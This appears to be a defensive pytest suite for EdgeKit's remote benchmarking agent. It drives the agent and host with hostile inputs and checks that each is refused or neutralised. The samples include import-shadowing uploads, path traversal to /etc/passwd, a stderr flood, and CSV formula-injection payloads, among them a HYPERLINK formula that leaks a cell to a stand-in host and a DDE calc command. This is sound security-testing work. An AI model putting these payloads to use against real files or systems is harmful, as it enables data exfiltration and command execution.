"""Hostile input, round three (issue 36): the device agent driven over its real stdin and stdout by a hostile host,
and a hostile device played by a fake `ssh` on PATH that speaks the protocol. Each case failed before its fix: the
agent ran uploaded code, hung, or raised a traceback; the host held gigabytes, raised a traceback, or wrote a live
spreadsheet formula."""

import csv
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, run_module

MODEL = ROOT / "tests" / "fixtures" / "sparse" / "int8.dense.tflite"
BENCH_SPEC = {"paths": ["model.tflite"], "threads": [1], "batch": 1, "runs": 3, "seconds": None, "warmup": 1,
              "inputs": "float", "options": {}}  # the fixture has no sidecar: float input


def _request(files: dict[str, bytes], directory: Path) -> bytes:
    records = [{"name": n, "size": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in files.items()]
    return json.dumps({"files": records, "dir": str(directory)}).encode() + b"\n" + b"".join(files.values())


def _run_line(argv: list[str]) -> bytes:
    return json.dumps({"run": argv, "timeout": 120}).encode() + b"\n"


class Agent:
    """`python -m runtime.remote agent` as sshd starts it, talked to one message at a time."""

    def __init__(self):
        self.proc = subprocess.Popen([sys.executable, "-m", "runtime.remote", "agent"], cwd=ROOT,
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert "hello" in self.read()

    def write(self, data: bytes) -> None:
        self.proc.stdin.write(data)
        self.proc.stdin.flush()

    def read(self) -> dict:
        return json.loads(self.proc.stdout.readline())

    def until(self, key: str) -> dict:
        while True:
            message = self.read()
            if key in message or "error" in message:
                return message

    def end(self) -> tuple[int, str]:
        self.proc.stdin.close()
        rest = self.proc.stdout.read()
        code = self.proc.wait(60)
        return code, rest.decode() + self.proc.stderr.read().decode()


def test_the_agent_never_imports_what_the_host_uploads(tmp_path):
    """Both recipes of the attack: a `runtime` package (runtime/__init__.py, runtime/bench.py) and stdlib
    shadows (json.py, argparse.py), each writing a marker when imported. The job runs, and none is imported by
    it or by the worker it starts."""
    store, marker = tmp_path / "device", tmp_path / "marker"
    store.mkdir()
    evil = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n".encode()
    files = {"model.tflite": MODEL.read_bytes(), "runtime/__init__.py": evil, "runtime/bench.py": evil,
             "json.py": evil, "argparse.py": evil}
    agent = Agent()
    agent.write(_request(files, store))
    assert agent.read() == {"stored": len(files)}
    agent.write(_run_line(["runtime.remote", "bench", json.dumps(BENCH_SPEC)]))
    done = agent.until("done")["done"]
    assert done["returncode"] == 0, done["stderr"]
    rows = json.loads(done["stdout"].strip().splitlines()[-1])["results"]
    assert [(r["model"], r["threads"]) for r in rows] == [("model.tflite", 1)] and rows[0]["call_ms"]["n"] == 3
    agent.write(b'{"bye": true}\n')
    code, _ = agent.end()
    assert code == 0 and not marker.exists() and list(store.iterdir()) == []


@pytest.mark.parametrize("argv, words", [
    (["runtime.bench", json.dumps({"mode": "rounds"})], "EdgeKit's own jobs only"),  # a module it used to run
    (["runtime.remote", "agent", "{}"], "EdgeKit's own jobs only"),  # an agent inside the agent
    (["os", "x", "y"], "EdgeKit's own jobs only"),
    (["runtime.remote", "bench", "{}", "--extra"], "EdgeKit's own jobs only"),
])
def test_the_agent_runs_no_other_job_than_edgekits(tmp_path, argv, words):
    agent = Agent()
    agent.write(_request({"model.tflite": MODEL.read_bytes()}, tmp_path))
    assert agent.read() == {"stored": 1}
    agent.write(_run_line(argv))
    message = agent.until("done")
    assert message.get("kind") == "protocol" and words in message["error"], message
    code, rest = agent.end()
    assert code == 1 and "Traceback" not in rest and list(tmp_path.iterdir()) == []


def test_a_job_reads_only_the_files_the_host_sent(tmp_path):
    """A spec naming /etc/passwd or ../x: the job refuses it in one line (exit 2), the agent goes on."""
    agent = Agent()
    agent.write(_request({"model.tflite": MODEL.read_bytes()}, tmp_path))
    assert agent.read() == {"stored": 1}
    for name in ("/etc/hostname", "../model.tflite"):
        agent.write(_run_line(["runtime.remote", "bench", json.dumps({**BENCH_SPEC, "paths": [name]})]))
        done = agent.until("done")["done"]
        assert done["returncode"] == 2 and "expected the name of a file the host sent" in done["stderr"], done
        assert "Traceback" not in done["stderr"]
    code, _ = agent.end()
    assert code == 0 and list(tmp_path.iterdir()) == []


def _deep(n: int) -> bytes:
    return b"[" * n


@pytest.mark.parametrize("case", ["deep first line", "deep run line", "NUL in a name", "a file and its folder",
                                  "dir is a file", "a line that is not JSON"])
def test_every_failure_of_the_agent_is_one_message_exit_1_and_nothing_left(tmp_path, case):
    """Before: a RecursionError killed the reader thread and the agent waited forever, its directory left behind
    (deep run line); the others were tracebacks (ValueError, FileExistsError, NotADirectoryError, RecursionError);
    a line that is not JSON ended the agent with exit 0."""
    model = MODEL.read_bytes()
    stored = _request({"model.tflite": model}, tmp_path)
    digest = hashlib.sha256(b"x").hexdigest()
    data, kind = {
        "deep first line": (_deep(200_000) + b"\n", "protocol"),
        "deep run line": (stored + b'{"run":' + _deep(200_000) + b"\n", "protocol"),
        "NUL in a name": (json.dumps({"files": [{"name": "a\u0000b", "size": 1, "sha256": digest}],
                                      "dir": str(tmp_path)}).encode() + b"\nx", "name"),
        "a file and its folder": (json.dumps({"files": [{"name": "a", "size": 1, "sha256": digest},
                                                        {"name": "a/b", "size": 1, "sha256": digest}],
                                              "dir": str(tmp_path)}).encode() + b"\nxx", "name"),
        "dir is a file": (json.dumps({"files": [{"name": "a", "size": 1, "sha256": digest}],
                                      "dir": "/etc/hostname"}).encode() + b"\nx", "dir"),
        "a line that is not JSON": (stored + b"run bench\n", "protocol"),
    }[case]
    done = subprocess.run([sys.executable, "-m", "runtime.remote", "agent"], cwd=ROOT, input=data,
                          capture_output=True, timeout=60)
    messages = [json.loads(line) for line in done.stdout.splitlines()]
    errors = [m for m in messages if "error" in m]
    assert done.returncode == 1 and len(errors) == 1 and errors[0]["kind"] == kind, (messages, done.stderr[-2000:])
    assert b"Traceback" not in done.stderr and list(tmp_path.iterdir()) == []


# --- a hostile device: a fake ssh on PATH that speaks the agent's protocol -------------------------------------

FAKE_SSH = """#!{python}
import json, os, sys
sys.path.insert(0, {root!r})
from runtime.remote.agent import device_info

case = json.loads(os.environ["FAKE_DEVICE"])
out, inp = sys.stdout.buffer, sys.stdin.buffer


def send(message):
    out.write((message if isinstance(message, bytes) else json.dumps(message).encode()) + b"\\n")
    out.flush()


if case.get("stderr_mib"):  # a device that writes without end on stderr, never a newline
    chunk = b"x" * 2**20
    for _ in range(case["stderr_mib"]):
        sys.stderr.buffer.write(chunk)
    sys.exit(255)
if case.get("hello_deep"):  # '[' nested past any bound, where the hello belongs
    send(b'{{"hello": ' + b"[" * case["hello_deep"])
    sys.exit(1)
send({{"hello": {{**device_info(), **case.get("hello", {{}})}}}})
request = json.loads(inp.readline())
for record in request["files"]:
    left = record["size"]
    while left:
        left -= len(inp.read(left))
send({{"stored": len(request["files"])}})
spec = json.loads(json.loads(inp.readline())["run"][2])
row = json.loads(os.environ["FAKE_ROW"])
row["model"] = spec["paths"][0]
row.update(case.get("row", {{}}))
done = {{"returncode": 0, "stdout": json.dumps({{"machine": {{}}, "results": [row]}}), "stderr": ""}}
done.update(case.get("done", {{}}))
send({{"done": done}})
inp.read()
"""


@pytest.fixture(scope="module")
def fake_device(tmp_path_factory):
    """A directory with the fake `ssh`, and a real bench row of MODEL (what an honest device would send)."""
    bench = run_module("runtime", "bench", str(MODEL), "--runs", "3", "--json", "--input", "float", timeout=120)
    assert bench.returncode == 0, bench.stderr
    row = json.loads(bench.stdout)["results"][0]
    folder = tmp_path_factory.mktemp("fake-ssh")
    ssh = folder / "ssh"
    ssh.write_text(FAKE_SSH.format(python=sys.executable, root=str(ROOT)))
    ssh.chmod(ssh.stat().st_mode | stat.S_IXUSR)
    return {"path": f"{folder}{os.pathsep}{os.environ['PATH']}", "row": json.dumps(row)}


def _bench_on(fake_device, case: dict, *options: str, measure: bool = False):
    """`runtime bench MODEL --host device` against the fake; with `measure`, the host's peak RSS (KiB, its VmHWM:
    ru_maxrss survives exec, and would count the pytest process this one was forked from) is printed last on
    stderr."""
    args = ["bench", str(MODEL), "--host", "pi@device", "--runs", "3", "--input", "float", *options]
    env = {**os.environ, "PATH": fake_device["path"], "FAKE_DEVICE": json.dumps(case), "FAKE_ROW": fake_device["row"]}
    if measure:
        code = ("import atexit, runpy, sys\n"
                "def peak():\n"
                "    line = next(l for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
                "    print('maxrss', line.split()[1], file=sys.stderr)\n"
                "atexit.register(peak)\n"
                f"sys.argv = ['runtime', *{args!r}]\nrunpy.run_module('runtime', run_name='__main__')\n")
        command = [sys.executable, "-c", code]
    else:
        command = [sys.executable, "-m", "runtime", *args]
    return subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("case, words", [
    ({"row": {"size_bytes": 0}}, "bench rows EdgeKit does not read"),  # ZeroDivisionError in compare
    ({"row": {"size_bytes": 1e308}}, "bench rows EdgeKit does not read"),  # a 400-character number
    ({"row": {"model": ["model.tflite"]}}, "bench rows EdgeKit does not read"),  # unhashable
    ({"row": {"call_ms": {"median": float("nan")}}}, "bench rows EdgeKit does not read"),
    ({"done": {"stdout": {"not": "text"}}}, "a result EdgeKit does not read"),
    ({"done": {"returncode": 10**30}}, "a result EdgeKit does not read"),
    ({"hello_deep": 200_000}, "before EdgeKit's agent there said hello"),  # nested past the bound, then the end
])
def test_a_hostile_devices_answer_is_one_line_exit_1(fake_device, case, words):
    done = _bench_on(fake_device, case)
    lines = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-3000:]
    assert len(lines) == 1 and words in lines[0], done.stderr[-3000:]


def test_a_device_that_floods_stderr_is_read_in_bounded_lines(fake_device):
    """400 MiB on stderr without a newline: the host held all of it (1.5 GB took it to 1.88 GB); now 4 KiB lines,
    64 KiB kept."""
    done = _bench_on(fake_device, {"stderr_mib": 400}, measure=True)
    assert done.returncode == 1 and "Traceback" not in done.stderr[-5000:], done.stderr[-3000:]
    peak_kib = int(done.stderr.strip().splitlines()[-1].split()[-1])
    assert peak_kib < 250 * 1024, peak_kib


def test_a_devices_text_reaches_a_spreadsheet_as_text(fake_device):
    """A device's backend and CPU name are formulas: bench --csv writes them as text (OWASP's rule)."""
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    case = {"row": {"backend": formula, "format": "@SUM(1+1)"}, "hello": {"cpu": "+cmd|' /C calc'!A0"}}
    done = _bench_on(fake_device, case, "--csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert rows and rows[0]["backend"] == "'" + formula and rows[0]["format"] == "'@SUM(1+1)"
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+@\t\r" or c[0] == "-" and not c[1:2].isdigit()], cells


def test_report_csv_cells_are_text_in_a_spreadsheet():
    from runtime.report.render import to_csv

    row = {"variant": "=1+1", "format": "int8", "file": "/r/x/model.int8.tflite", "status": "failed",
           "reason": "@SUM(A1:A9)", "accuracy": 0.5, "accuracy_change_pts": -1.25, "parent": "-2+3"}
    written = next(csv.DictReader(io.StringIO(to_csv([row], Path("/r")))))
    assert written["variant"] == "'=1+1" and written["reason"] == "'@SUM(A1:A9)" and written["parent"] == "'-2+3"
    assert written["accuracy_change_pts"] == "-1.25" and written["file"] == "x/model.int8.tflite"


# --- ONNX files: external data in a subgraph, inputs EdgeKit does not feed, a step that takes minutes -------------

def _onnx(path: Path, graph) -> Path:
    import onnx
    from onnx import helper

    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    onnx.save(model, str(path))
    return path


def _classifier_with_an_if(path: Path, location: str) -> Path:
    """A 28x28x1 -> 10 graph whose If's then-branch holds a Constant stored as external data at `location` (the
    main graph stores nothing outside: a check of the main graph alone passes it)."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weights = numpy_helper.from_array(np.ones((1, 10), np.float32), "w")
    weights.ClearField("raw_data")
    weights.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "40")):
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    branch = {name: helper.make_graph([helper.make_node("Constant", [], [name], value=value)], name, [],
                                      [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 10])])
              for name, value in (("then", weights),
                                  ("else", numpy_helper.from_array(np.zeros((1, 10), np.float32))))}
    nodes = [helper.make_node("ReduceSum", ["x"], ["s"], keepdims=0),
             helper.make_node("Constant", [], ["zero"], value=numpy_helper.from_array(np.array(0, np.float32))),
             helper.make_node("Greater", ["s", "zero"], ["c"]),
             helper.make_node("If", ["c"], ["y"], then_branch=branch["then"], else_branch=branch["else"])]
    return _onnx(path, helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT,
                                                                                     [1, 28, 28, 1])],
                                         [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 10])]))


def _error_lines(done) -> list[str]:
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    return [line for line in done.stderr.splitlines() if line.startswith("error:")]


def test_external_data_in_a_subgraph_is_checked_by_export_and_the_runtime(tmp_path):
    """EdgeKit checked the main graph's initializers only; /etc/passwd in an If's branch reached onnxruntime,
    which stopped it. Now export and every runtime command refuse it first, for what it is."""
    model = _classifier_with_an_if(tmp_path / "if.onnx", "/etc/passwd")
    image = tmp_path / "x.npy"
    image.write_bytes(b"")  # never read: the model is refused first
    for command in (["runtime", "info", str(model)], ["runtime", "predict", "--raw", str(model), str(image)],
                    ["runtime", "bench", str(model), "--runs", "2"],
                    ["export", "--onnx", str(model), "--dataset", "digits", "--out", str(tmp_path / "out")]):
        done = run_module(*command, timeout=300)
        lines = _error_lines(done)
        assert done.returncode == 1 and len(lines) == 1 and "outside the model's directory" in lines[0], done.stderr
    assert not (tmp_path / "out").exists()


def test_an_input_edgekit_does_not_feed_is_refused_for_what_it_is(tmp_path):
    import numpy as np
    from onnx import TensorProto, helper

    def classifier(dtype):  # (1, 28, 28, 1) of `dtype` -> cast -> flatten -> 10 logits
        weights = helper.make_tensor("w", TensorProto.FLOAT, [784, 10], np.zeros(7840, np.float32))
        shape = helper.make_tensor("shape", TensorProto.INT64, [2], [1, 784])
        nodes = [helper.make_node("Cast", ["x"], ["f"], to=TensorProto.FLOAT),
                 helper.make_node("Reshape", ["f", "shape"], ["flat"]), helper.make_node("MatMul", ["flat", "w"], ["y"])]
        return helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", dtype, [1, 28, 28, 1])],
                                 [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 10])], [weights, shape])

    strings = _onnx(tmp_path / "strings.onnx", helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.STRING, [1])],
        [helper.make_tensor_value_info("y", TensorProto.STRING, [1])]))
    np.save(tmp_path / "s.npy", np.array(["a"]))
    done = run_module("runtime", "predict", "--raw", str(strings), str(tmp_path / "s.npy"), "--out",
                      str(tmp_path / "o.npz"))  # a TypeError from numpy before
    lines = _error_lines(done)
    assert done.returncode == 2 and len(lines) == 1 and "takes string values" in lines[0], done.stderr
    # an int64-input "classifier": refused by export as not taking float input, no longer as "quantized already"
    int64 = _onnx(tmp_path / "int64.onnx", classifier(TensorProto.INT64))
    done = run_module("export", "--onnx", str(int64), "--dataset", "digits", "--out", str(tmp_path / "out"))
    lines = _error_lines(done)
    assert done.returncode == 2 and len(lines) == 1 and "takes int64 input" in lines[0], done.stderr
    assert "quantized already" not in lines[0]


def test_a_step_that_cannot_say_its_progress_is_shown_alive(capfd):
    """onnxruntime's quantizer is one call, minutes on a graph of 10,000 nodes (README, Trust): Ticking shows its
    name, a note and the time elapsed, once it has run past its delay; a short step shows nothing."""
    import time

    from runtime.progress import Ticking

    with Ticking("quick step", delay=1.0):
        time.sleep(0.05)
    with Ticking("long step", delay=0.2) as tick:
        tick.note("calibrated on 3/300 images")
        time.sleep(1.5)
    shown = capfd.readouterr().err
    assert "quick step" not in shown and "long step, calibrated on 3/300 images [00:01]" in shown, shown
